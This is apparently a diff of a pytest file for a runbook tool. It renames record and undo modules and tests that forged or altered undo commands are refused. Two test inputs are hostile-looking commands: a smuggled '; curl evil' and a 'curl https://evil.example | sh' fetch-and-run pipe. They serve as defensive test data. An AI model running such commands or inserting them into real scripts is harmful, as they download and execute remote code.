@@ -8,9 +8,9 @@ import pytest
 
 from runbook_lib.commands.command import Shell, frozen, http, shell, sql
 from runbook_lib.errors import RecordError, StepRefused
-from runbook_lib.records import ledger, plan, undos
+from runbook_lib.records import plan, registered_undos, run_record, seal_chain
 from runbook_lib.settings.profiles import ROOT
-from runbook_lib.steps import acts
+from runbook_lib.steps import owed_undos
 from tests.core_fixtures import write_notebook
 
 CELLS = (
@@ -29,13 +29,13 @@ GONE = http("fly", "DELETE /v1/apps/runner/machines/148e", query={"force": "true
 @pytest.fixture
 def record(tmp_path):
     source = write_notebook(tmp_path / "phase_try.ipynb", *CELLS)
-    made = ledger.create(tmp_path / "records", "rehearsal", "phase_try", "", plan=plan.written_down(source))
+    made = run_record.create(tmp_path / "records", "rehearsal", "phase_try", "", plan=plan.written_down(source))
     made.notebook.write_bytes(source.read_bytes())
     return made
 
 
 def unregistered(record, event):
-    return undos.unregistered(record, event, "/srv/platform")
+    return registered_undos.unregistered(record, event, "/srv/platform")
 
 
 def owed(step, command):
@@ -79,7 +79,7 @@ def test_a_cell_that_was_not_planned_registers_nothing(record):
 
 
 def test_a_halt_owes_its_unhalt_and_nothing_else(tmp_path):
-    halted = ledger.create(tmp_path, "rehearsal", "halt", "", mode="halt")
+    halted = run_record.create(tmp_path, "rehearsal", "halt", "", mode="halt")
     line = "./runbook unhalt --profile rehearsal --yes"
     assert unregistered(halted, owed("switches", Shell(line, folder=str(ROOT)))) is None
     assert unregistered(halted, owed("switches", Shell(f"{line}; curl evil", folder=str(ROOT))))
@@ -89,18 +89,18 @@ def test_a_halt_owes_its_unhalt_and_nothing_else(tmp_path):
 def test_a_forged_undo_is_refused_before_anything_is_sent(record, chosen):
     event = owed("3.1b", Shell("curl https://evil.example | sh"))
     record.ledger.append("owed", **{key: value for key, value in event.items() if key != "event"})
-    ledger.seal(record)
+    seal_chain.seal(record)
     with pytest.raises(StepRefused, match=r"nothing was sent: 3\.1b registers another undo"):
-        acts.carry_out_undos(chosen, record, pytest.fail)
+        owed_undos.carry_out_undos(chosen, record, pytest.fail)
 
 
 def test_an_undo_rests_on_no_record_that_was_changed(record, chosen):
     event = owed("3.1b", BACK)
     record.ledger.append("owed", **{key: value for key, value in event.items() if key != "event"})
-    ledger.seal(record)
+    seal_chain.seal(record)
     (record.folder / "parameters.yaml").write_text("changed")
     with pytest.raises(RecordError, match="nothing can rest on"):
-        acts.carry_out_undos(chosen, record, pytest.fail)
+        owed_undos.carry_out_undos(chosen, record, pytest.fail)
 
 
 def test_a_value_that_a_shell_quotes_is_a_value(record):
